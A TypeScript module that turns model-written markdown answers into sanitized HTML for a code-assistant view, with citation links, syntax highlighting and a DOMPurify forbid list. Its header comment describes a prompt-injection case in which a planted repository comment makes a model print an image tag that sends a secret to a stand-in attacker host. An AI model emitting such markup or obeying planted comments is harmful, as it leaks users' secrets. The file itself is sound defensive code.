/**
 * Answer markdown to safe HTML: `marked` parses, citations (`[path:line]`, `[note:…]`,
 * `[thread:id#n]`, `[commit:hash]`) become links the view opens, fenced code is highlighted by
 * highlight.js (TypeScript/JavaScript, Python, Go, Rust, JSON) with the theme's colours (classes only, styled in chat.css), raw HTML in the
 * answer is shown as text, and DOMPurify removes whatever else could run or load: scripts,
 * event handlers, `javascript:` and every non-http(s) URL, images, styles, forms.
 *
 * An answer is written by a model that read the repository, so it is untrusted input: a
 * planted comment can make a model print `<img src=https://attacker/?secret>`. The webview's
 * Content-Security-Policy is the second wall (no remote loads, scripts only by nonce).
 */
import type { DOMPurify as Purifier } from 'dompurify';
import hljs from 'highlight.js/lib/core';
import go from 'highlight.js/lib/languages/go';
import json from 'highlight.js/lib/languages/json';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import typescript from 'highlight.js/lib/languages/typescript';
import { Marked, type Tokens } from 'marked';
import { parseCitations } from '../../src/protocol/citations';

hljs.registerLanguage('go', go);
hljs.registerLanguage('json', json);
hljs.registerLanguage('python', python);
hljs.registerLanguage('rust', rust);
hljs.registerLanguage('typescript', typescript);

// The bundle's size budget (150 KB) holds five grammars: the languages of the corpora the
// product is measured on. TypeScript's grammar highlights JavaScript too.
const ALIASES: Record<string, string> = { ts: 'typescript', tsx: 'typescript', js: 'typescript', jsx: 'typescript', mjs: 'typescript', cjs: 'typescript', javascript: 'typescript', py: 'python', rs: 'rust', golang: 'go' };

/** One citation as the view links it. */
export interface CitationLink {
  citation: string;
  source: string;
  path: string;
  line?: number;
}

const GROUP_RE = /^\[([^[\]\n]{3,400})\](?!\()/;

export function escapeHtml(s: string): string {
  return s.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c] ?? c);
}

/** The label a citation link shows: its text without brackets and the `note:`-style prefix kept. */
function label(c: CitationLink): string {
  return c.citation.slice(1, -1);
}

function citationHtml(c: CitationLink): string {
  return `<a class="cite cite-${escapeHtml(c.source)}" href="#" data-cite="${escapeHtml(c.citation)}" title="${escapeHtml(c.citation)}">${escapeHtml(label(c))}</a>`;
}

/** Highlighted code (highlight.js classes only) for a known language; escaped text otherwise. Cached: streaming re-renders the same blocks. */
const highlighted = new Map<string, string>();
function highlight(code: string, lang: string | undefined): string {
  const name = lang ? (ALIASES[lang.toLowerCase()] ?? lang.toLowerCase()) : undefined;
  if (!name || !hljs.getLanguage(name)) return escapeHtml(code);
  const key = `${name}\u0000${code}`;
  let html = highlighted.get(key);
  if (html === undefined) {
    html = hljs.highlight(code, { language: name, ignoreIllegals: true }).value;
    if (highlighted.size > 500) highlighted.clear();
    highlighted.set(key, html);
  }
  return html;
}

export interface MarkdownRenderer {
  /** Sanitized HTML for `markdown`. */
  render(markdown: string): string;
}

/**
 * A renderer over a DOMPurify instance (the page's own in the webview; one over jsdom's
 * window in unit tests).
 */
export function createMarkdownRenderer(purify: Purifier): MarkdownRenderer {
  const marked = new Marked({
    gfm: true,
    async: false,
    extensions: [
      {
        name: 'citation',
        level: 'inline',
        start: (src: string) => {
          const i = src.indexOf('[');
          return i < 0 ? undefined : i;
        },
        tokenizer(src: string) {
          const m = GROUP_RE.exec(src);
          if (!m) return undefined;
          const cites = parseCitations(m[0]);
          if (cites.length === 0) return undefined;
          return { type: 'citation', raw: m[0], cites };
        },
        renderer(token) {
          return (token as unknown as { cites: CitationLink[] }).cites.map(citationHtml).join(' ');
        },
      },
    ],
    renderer: {
      code({ text, lang }: Tokens.Code) {
        const name = (lang ?? '').split(/\s/)[0];
        return `<pre class="code"><code class="hljs${name ? ` language-${escapeHtml(name)}` : ''}">${highlight(text, name)}</code></pre>\n`;
      },
      // Raw HTML in an answer is shown, not interpreted.
      html({ text }: Tokens.HTML | Tokens.Tag) {
        return escapeHtml(text);
      },
      image({ text }: Tokens.Image) {
        return escapeHtml(text ? `[image: ${text}]` : '[image]');
      },
    },
  });
  return {
    render(markdown: string): string {
      const html = marked.parse(markdown) as string;
      return purify.sanitize(html, {
        FORBID_TAGS: ['img', 'style', 'form', 'input', 'button', 'textarea', 'select', 'option', 'iframe', 'frame', 'object', 'embed', 'svg', 'math', 'video', 'audio', 'source', 'link', 'meta', 'base'],
        FORBID_ATTR: ['style', 'srcset', 'action', 'formaction', 'target'],
        ALLOWED_URI_REGEXP: /^(?:https?:\/\/|#)/i,
      });
    },
  };
}
